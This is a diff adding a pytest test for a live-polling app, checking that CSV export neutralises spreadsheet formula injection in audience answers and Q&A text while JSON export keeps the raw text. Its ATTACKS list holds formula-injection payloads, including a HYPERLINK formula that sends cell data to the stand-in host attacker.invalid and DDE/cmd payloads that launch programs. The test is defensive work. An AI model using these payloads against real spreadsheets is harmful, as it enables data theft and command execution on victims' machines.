@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import asyncio
 import csv
+import dataclasses
 import io
 import json
 import sqlite3
@@ -14,8 +15,11 @@ from pathlib import Path
 import pytest
 
 from clients import chair, new_voter_token, open_phone
+from livepoll import deck as deck_module
 from livepoll.export import ExportError, export
 from livepoll.server.app import ServerConfig, running_server
+from livepoll.spreadsheet import FORMULA_TRIGGERS
+from livepoll.words import clean_text
 
 
 async def seed(config: ServerConfig, tokens: list[str]) -> int:
@@ -137,3 +141,73 @@ async def test_export_command_writes_csv_to_a_file(
     )
     assert result.returncode == 0, result.stderr
     assert output.read_bytes().decode("utf-8") == await export(server_config.database, "csv", None)
+
+
+FORMULA_DECK = """title = "=Formulas"
+[[questions]]
+id = "idea"
+type = "text"
+prompt = "One idea"
+display = "wall"
+
+[[questions]]
+id = "ask"
+type = "qa"
+prompt = "@Questions"
+"""
+ATTACKS = (
+    '=HYPERLINK("http://attacker.invalid/?d="&A1,"Click me")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=cmd|' /C notepad'!'A1'",
+    '=DDE("cmd";"/C calc";"!A0")',
+    "=1+1",
+    "\t=2+2",
+    "\r=3+3",
+    "\n=4+4",
+    "\u00a0=5+5",
+    "  +6+6",
+    "-7-7",
+    "@A1",
+)
+
+
+async def test_csv_cells_never_start_a_formula_and_json_keeps_the_raw_text(
+    server_config: ServerConfig,
+) -> None:
+    """Attack answers and Q&A questions from phones are neutralised in CSV, raw in JSON."""
+    deck = deck_module.from_text(FORMULA_DECK, "formulas.toml")
+    config = dataclasses.replace(server_config, deck=deck)
+    async with running_server(config) as server:
+        phones = [await open_phone(server) for _ in ATTACKS]
+        await chair(server, "toggle_voting")
+        for phone, attack in zip(phones, ATTACKS, strict=True):
+            assert (await phone.vote("idea", attack))["type"] == "ack"
+        await chair(server, "next", "toggle_voting")
+        for phone, attack in zip(phones, ATTACKS, strict=True):
+            phone.seq += 1
+            await phone.connection.send(
+                json.dumps({"type": "ask", "q": "ask", "text": attack, "seq": phone.seq})
+            )
+            assert (await phone.reply())["type"] == "ack"
+        for phone in phones:
+            await phone.connection.close()
+    cleaned = [clean_text(attack) for attack in ATTACKS]
+    assert all(text.startswith(("=", "+", "-", "@")) for text in cleaned), "real attacks"
+
+    csv_text = await export(config.database, "csv", None)
+    rows = list(csv.reader(io.StringIO(csv_text)))
+    assert len(rows) == 1 + 2 * len(ATTACKS)
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(FORMULA_TRIGGERS), (cell, row)
+    answers = sorted(row[6] for row in rows[1:])
+    assert answers == sorted("'" + text for text in cleaned * 2)
+    assert {row[1] for row in rows[1:]} == {"'=Formulas"}
+
+    document = json.loads(await export(config.database, "json", None))
+    (session,) = document["sessions"]
+    assert sorted(response["answer"] for response in session["responses"]) == sorted(cleaned)
+    assert sorted(item["text"] for item in session["qa_items"]) == sorted(cleaned)
+    assert session["deck"] == "=Formulas"
